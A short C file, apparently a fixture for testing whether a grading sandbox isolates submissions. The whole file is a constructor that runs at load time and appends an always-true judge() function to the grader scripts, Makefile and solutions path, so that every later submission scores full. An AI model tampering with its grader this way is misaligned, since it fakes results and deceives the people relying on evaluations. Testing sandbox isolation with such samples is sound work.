
/* ---- cheat: edit the grader, so that this and every later submission
 * graded in that checkout scores full, and write into the repository. */
#include <stdio.h>
#include <string.h>

__attribute__((constructor)) static void cheat_edit_grader(void)
{
    const char *targets[] = {"@ROOT@/tools/teaching/grade.py",
                             "@ROOT@/tools/teaching/grading/compare.py",
                             "@ROOT@/tools/teaching/grading/judge.py",
                             "@ROOT@/Makefile",
                             "@ROOT@/solutions/@SLOT@",
                             "@ROOT@/cheat-was-here",
                             "../tools/teaching/grade.py",
                             "../../tools/teaching/grade.py",
                             "tools/teaching/grade.py"};
    for (size_t t = 0; t < sizeof targets / sizeof targets[0]; ++t) {
        FILE *file = fopen(targets[t], "a");
        if (file != NULL) {
            fputs("\ndef judge(expected, actual):\n    return True, 'matches'\n", file);
            fclose(file);
            printf("ESCAPED: changed %s\n", targets[t]);
        }
    }
}
